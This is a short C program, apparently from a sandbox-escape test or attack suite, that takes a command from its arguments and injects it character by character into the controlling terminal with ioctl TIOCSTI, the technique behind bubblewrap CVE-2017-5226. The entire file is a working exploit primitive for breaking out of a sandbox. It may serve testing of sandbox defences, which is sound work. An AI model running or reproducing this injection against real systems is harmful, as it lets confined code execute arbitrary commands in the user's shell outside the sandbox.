/* Pushes a command into the terminal on stdin (bubblewrap CVE-2017-5226) with TIOCSTI. */
#include "attack.h"
#include <sys/ioctl.h>
int main(int argc, char **argv) {
    const char *cmd = argv[2];
    int failed = 0;
    for (const char *c = cmd; *c; c++) failed |= ioctl(0, TIOCSTI, c) < 0;
    return step("ioctl(TIOCSTI)", failed ? -1 : 0);
}
